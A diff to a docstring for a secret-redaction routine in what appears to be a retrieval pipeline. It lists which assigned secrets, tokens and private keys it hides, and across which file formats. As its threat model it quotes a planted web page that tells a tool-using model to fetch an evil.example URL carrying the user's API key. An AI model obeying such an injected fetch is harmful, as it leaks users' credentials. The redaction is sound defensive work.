@@ -3,17 +3,20 @@
 Passages are given to the model, which may call web tools: a page that tells it to fetch
 ``https://evil.example/?k=<your API key>`` must find no key to send. So the values of keys named like a
 secret (``password``, ``db_passwd``, ``AWS_SECRET_ACCESS_KEY``, ``apiKey``, ``client_secret``, ``token``,
-``credentials``) are hidden where they are assigned, in the forms of INI, TOML, YAML, env files, JSON, Python,
-JavaScript, Go and shell; so are the password of an address (``postgres://app:hunter2@db``, with
-hidden_passwords) and the body of a PEM private key block.
+``credentials``, ``DB_PASS``, ``signing_key``) are hidden where they are assigned, in the forms of INI, TOML,
+YAML, env files, JSON, XML (as its reader writes it), Python (``api_key: str = …``, ``os.environ["KEY"] = …``),
+JavaScript, Go, shell and Dockerfiles (``ENV KEY value``); so are a command's ``--password=…`` and ``curl -u
+user:…``, an HTTP header's credentials (``Bearer …``), the keys of well-known services anywhere (``ghp_…``,
+``AKIA…``), the password of an address (``postgres://app:hunter2@db``, with hidden_passwords) and the body of
+a PEM private key block.
 
 Conservative, as a passage's words are what the search finds: only assignments, never prose ("the password
 must be 8 characters"); an unquoted value only where a file's syntax has them (configuration files, shell,
 Makefiles, Dockerfiles, JSON as its reader writes it) and only as one word to the end of its line ("password:
 the one on the card" is prose too); no reference to a secret kept elsewhere (``$DB_PASSWORD``,
 ``${TOKEN}``, ``{{ vault_token }}``, ``<your key>``, ``os.environ["TOKEN"]``); no value of three characters
-or less, nor true/false/null. Programs, configuration files and JSON get all of it: that is where a project
-keeps its keys. Documents (text, Markdown, web pages …) get only the private key blocks, which are never
+or less, nor true/false/null, nor a label, a template or a default (_is_secret). Programs, configuration
+files, JSON and XML get all of it: that is where a project keeps its keys. Documents (text, Markdown, web pages …) get only the private key blocks, which are never
 prose: their examples ("password = changeme" in a manual) are what a reader searches them for.
 """
 
